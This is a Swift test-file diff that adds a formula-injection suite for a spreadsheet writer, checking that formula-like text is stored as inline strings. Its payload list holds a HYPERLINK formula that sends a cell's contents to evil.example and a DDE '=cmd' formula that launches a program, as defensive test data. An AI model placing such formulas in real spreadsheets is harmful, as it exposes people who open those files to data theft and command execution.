@@ -102,3 +102,24 @@ struct WriterFormatTests {
     #expect(CellReference.columnIndex(of: "12") == nil)
   }
 }
+
+@Suite("Writer: formula injection")
+struct WriterFormulaInjectionTests {
+  @Test("Text that looks like a formula is written as an inline string, never as a formula cell")
+  func formulasStayText() throws {
+    let payloads = [
+      #"=HYPERLINK("http://evil.example/?d="&A1,"点击")"#, "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1",
+      "\r=1+1",
+    ]
+    let data = try SpreadsheetWorkbook(sheets: [
+      SpreadsheetSheet(name: "S", rows: payloads.map { [.text($0), .number(-12.5), .integer(-3)] }, boldFirstRow: false)
+    ]).xlsxData()
+    let xml = try TestSupport.part("xl/worksheets/sheet1.xml", of: data)
+    #expect(!xml.contains("<f>") && !xml.contains("<f "))
+    #expect(xml.components(separatedBy: "t=\"inlineStr\"").count - 1 == payloads.count)
+    // Negative numbers stay numbers.
+    #expect(xml.contains("<v>-12.5</v>") && xml.contains("<v>-3</v>"))
+    let rows = try SpreadsheetReader.rows(in: data)
+    #expect(rows.map { $0[0] } == payloads)
+  }
+}
